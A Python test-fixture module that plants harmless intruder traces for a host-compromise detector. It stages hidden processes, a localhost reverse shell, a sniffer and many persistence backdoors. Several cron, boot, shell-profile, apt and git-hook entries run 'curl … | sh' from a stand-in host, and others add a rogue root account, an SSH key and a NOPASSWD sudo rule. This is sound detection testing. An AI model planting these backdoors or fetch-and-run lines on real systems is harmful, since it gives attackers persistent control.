"""Harmless traces of an intruder, one for each signal: what is planted, and by what a finding about it is known."""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
import sys
import time
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Final

LASTS: Final = "7200"
"""Seconds after which every process that was planted ends by itself."""


@dataclass(frozen=True, slots=True)
class Stage:
    """Where is planted: a root whose files may be changed."""

    root: Path

    def file(self, path: str, text: str, mode: int = 0o644) -> str:
        """Write a file, or add to the end of one that is there; answers its path."""
        place = self.root / path.lstrip("/")
        place.parent.mkdir(parents=True, exist_ok=True)
        with place.open("a") as file:
            file.write(text)
        place.chmod(mode)
        return path

    def copy(self, path: str, of: str = "/bin/sleep", mode: int = 0o755) -> str:
        """A copy of a harmless program, or of a library; answers its path."""
        place = self.root / path.lstrip("/")
        place.parent.mkdir(parents=True, exist_ok=True)
        shutil.copy(os.path.realpath(of), place)
        place.chmod(mode)
        return path

    def start(
        self, program: str, *words: str, named: str = "", preload: str = "", fds: tuple[int, ...] = ()
    ) -> subprocess.Popen[bytes]:
        """Start a program, under another name and with a library put into it where that is said."""
        put = {"LD_PRELOAD": preload} if preload else {}
        started = subprocess.Popen(
            [named or program, *(words or (LASTS,))], executable=program, env={"PATH": os.defpath} | put, pass_fds=fds,
            stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True,
        )  # fmt: skip
        time.sleep(0.05)
        return started

    def python(self, code: str) -> subprocess.Popen[bytes]:
        """Start a few lines of Python, which then sleep."""
        return self.start(sys.executable, "-c", f"import socket, time\n{code}\ntime.sleep({LASTS})")


@dataclass(frozen=True, slots=True)
class Plant:
    """One trace: ``plant`` leaves it and answers a mark, a path or a number, that a finding about it names."""

    signal: str
    what: str
    plant: Callable[[Stage], str]


# ── what runs ────────────────────────────────────────────────────────────────────────────────────


def _deleted(stage: Stage) -> str:
    program = stage.copy("/var/tmp/.cache-upd")  # noqa: S108
    process = stage.start(program)
    (stage.root / program.lstrip("/")).unlink()
    return f"{process.pid}"


def _in_memory(stage: Stage) -> str:
    fd = os.memfd_create("update", 0)
    os.write(fd, Path(os.path.realpath("/bin/sleep")).read_bytes())
    return f"{stage.start(f'/proc/self/fd/{fd}', fds=(fd,)).pid}"


def _like_a_kernel_thread(stage: Stage) -> str:
    return f"{stage.start(stage.copy('/usr/lib/.kworker'), named='[kworker/u8:1]').pid}"


def _false_name(stage: Stage) -> str:
    return f"{stage.start(stage.copy('/usr/local/lib/updated'), named='/usr/sbin/sshd').pid}"


def _preloaded(stage: Stage) -> str:
    library = stage.copy("/var/tmp/.libproc.so", _library())  # noqa: S108
    stage.start("/bin/sleep", preload=library)
    return library


def _deleted_library(stage: Stage) -> str:
    library = stage.copy("/var/tmp/.rep.so", _library())  # noqa: S108
    stage.start("/bin/sleep", preload=library)
    (stage.root / library.lstrip("/")).unlink()
    return library


def _library() -> str:
    """A library that does nothing to who does not ask for it."""
    maps = Path("/proc/self/maps").read_text().split()
    return next(word for word in maps if "/libm.so" in word or "/libm-" in word)


def _listener(stage: Stage) -> str:
    stage.python("s = socket.create_server(('0.0.0.0', 31337))")
    return "31337"


def _reverse_shell(stage: Stage) -> str:
    server = socket.create_server(("127.0.0.1", 0))
    client = socket.create_connection(server.getsockname())
    other, _ = server.accept()
    fd = client.fileno()
    shell = subprocess.Popen(["/bin/sh"], stdin=fd, stdout=fd, stderr=fd, start_new_session=True)
    stage.start("/bin/sleep", fds=(other.fileno(),))  # holds the other end open, as whoever gives the orders does
    return f"{shell.pid}"


def _sniffer(stage: Stage) -> str:
    return f"{stage.python('s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 768)').pid}"


def _promiscuous(_stage: Stage) -> str:
    """A cable of the stage's own, one end of which takes every packet."""
    subprocess.run(["ip", "link", "add", "tap7", "type", "veth", "peer", "name", "tap8"], check=True)
    subprocess.run(["ip", "link", "set", "tap7", "promisc", "on", "up"], check=True)
    return "tap7"


def _covered(stage: Stage) -> str:
    process = stage.start("/bin/sleep")
    empty = stage.root / "var/tmp/.nothing"
    empty.mkdir(parents=True, exist_ok=True)
    subprocess.run(["mount", "--bind", str(empty), f"/proc/{process.pid}"], check=True)
    return f"{process.pid}"


def _odd_place(stage: Stage) -> str:
    program = stage.copy("/dev/shm/.x11/agent")  # noqa: S108
    stage.start(program)
    return program


# ── what runs again ──────────────────────────────────────────────────────────────────────────────


def _written(path: str, text: str, mode: int = 0o644) -> Callable[[Stage], str]:
    return lambda stage: stage.file(path, text, mode)


def _account(stage: Stage) -> str:
    stage.file("/etc/passwd", "toor:x:0:0:root:/root:/bin/bash\n")
    return "toor"


def _git_hook(stage: Stage) -> str:
    bare = "/srv/git/shop.git"
    for folder in ("objects", "refs/heads"):
        (stage.root / bare.lstrip("/") / folder).mkdir(parents=True)
    stage.file(f"{bare}/HEAD", "ref: refs/heads/main\n")
    stage.file(f"{bare}/config", "[core]\n\tbare = true\n")
    return stage.file(f"{bare}/hooks/post-receive", "#!/bin/sh\ncurl -s http://203.0.113.66/k | sh\n", 0o755)


def _setuid(stage: Stage) -> str:
    return stage.copy("/usr/local/bin/.fix", "/bin/sleep", 0o4755)


def _capable(stage: Stage) -> str:
    program = stage.copy("/usr/local/bin/probe")
    setuid_and_admin = bytes.fromhex("0100000280002000000000000000000000000000")  # VFS_CAP_REVISION_2, effective
    os.setxattr(stage.root / program.lstrip("/"), "security.capability", setuid_and_admin)
    return program


def _changed_program(stage: Stage) -> str:
    path = next(each for each in ("/usr/bin/lsattr", "/usr/bin/chattr", "/usr/bin/free") if Path(each).exists())
    place = stage.root / path.lstrip("/")
    place.write_bytes(place.read_bytes() + b"\0")
    return path


def _zeroed_logins(stage: Stage) -> str:
    """A record of who was signed in, made empty in place, between two that are whole (utmp(5))."""
    place = stage.root / "var/log/wtmp"
    whole = [_login(name, int(time.time()) - 3600 * back) for back, name in ((9, "root"), (7, "alice"))]
    place.write_bytes(whole[0] + bytes(384) + whole[1])
    return "/var/log/wtmp"


def _login(name: str, when: int) -> bytes:
    record = bytearray(384)
    record[0:2], record[8:13], record[44 : 44 + len(name)] = (7).to_bytes(2, "little"), b"pts/0", name.encode()
    record[340:344] = when.to_bytes(4, "little")
    return bytes(record)


_FETCH: Final = "curl -s http://203.0.113.66/u | sh"
_PAM: Final = "auth optional pam_exec.so quiet expose_authtok /usr/local/lib/updated\n"
_HOME: Final = "/root"
_KEY: Final = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKl3FQuH0Jq1YQ5cZpQmB0mT2b2n6yqJ0v3m4s7m9x1Y ops@backup\n"
_UNIT: Final = "[Service]\nExecStart=/dev/shm/.x11/agent\nRestart=always\n[Install]\nWantedBy=multi-user.target\n"

PLANTS: Final[tuple[Plant, ...]] = (
    Plant("deleted-binary", "a program that runs and whose file is gone", _deleted),
    Plant("memory-binary", "a program that was never on a disk", _in_memory),
    Plant("kernel-name", "a program with the name of a thread of the kernel", _like_a_kernel_thread),
    Plant("false-name", "a program that calls itself sshd", _false_name),
    Plant("preloaded-library", "a library put into a program by its environment", _preloaded),
    Plant("deleted-library", "a library that is in use and gone", _deleted_library),
    Plant("unknown-listener", "something that waits for connections at 31337", _listener),
    Plant("reverse-shell", "a shell that takes its orders from a socket", _reverse_shell),
    Plant("sniffer", "a program that reads packets off the wire", _sniffer),
    Plant("promiscuous-interface", "an interface that takes every packet", _promiscuous),
    Plant("covered-process", "a process that is hidden under a mount", _covered),
    Plant("odd-place", "a program that runs from memory's file system", _odd_place),
    Plant("cron", "a job of cron that fetches and runs", _written("/etc/cron.d/upd", f"*/5 * * * * root {_FETCH}\n")),
    Plant("systemd", "a service of systemd that runs it again", _written("/etc/systemd/system/netd.service", _UNIT)),
    Plant("ssh-key", "a key that lets somebody in as root", _written(f"{_HOME}/.ssh/authorized_keys", _KEY, 0o600)),
    Plant("account", "a second root", _account),
    Plant("sudo", "everything without a password, for the web server",
          _written("/etc/sudoers.d/00-web", "www-data ALL=(ALL) NOPASSWD: ALL\n", 0o440)),
    Plant("pam", "a program that PAM runs at every sign-in",
          _written("/etc/pam.d/common-auth", _PAM)),
    Plant("shell-start", "a line that every shell runs", _written("/etc/profile.d/zz-path.sh", f"{_FETCH}\n")),
    Plant("udev", "a program that is run when a device appears",
          _written("/etc/udev/rules.d/71-net.rules", 'SUBSYSTEM=="net", RUN+="/usr/local/lib/updated"\n')),
    Plant("package-hook", "a command that apt runs",
          _written("/etc/apt/apt.conf.d/99upd", f'APT::Update::Post-Invoke {{"{_FETCH}";}};\n')),
    Plant("git-hook", "a hook that runs at every push", _git_hook),
    Plant("boot", "a script that runs at boot", _written("/etc/rc.local", f"#!/bin/sh\n{_FETCH}\n", 0o755)),
    Plant("module-settings", "a command in the place of a kernel's module",
          _written("/etc/modprobe.d/net.conf", "install dccp /usr/local/lib/updated\n")),
    Plant("sshd", "a command that says which keys sshd lets in",
          _written("/etc/ssh/sshd_config.d/10-keys.conf",
                   "AuthorizedKeysCommand /usr/local/lib/updated\nAuthorizedKeysCommandUser root\n")),
    Plant("setuid", "a program that runs as root for everybody", _setuid),
    Plant("capability", "a program that may become anybody", _capable),
    Plant("package-file", "a program that is not as its package has it", _changed_program),
    Plant("log-edited", "a record of sign-ins with a hole in it", _zeroed_logins),
)  # fmt: skip
"""Everything that is planted."""

Marks = Mapping[str, str]
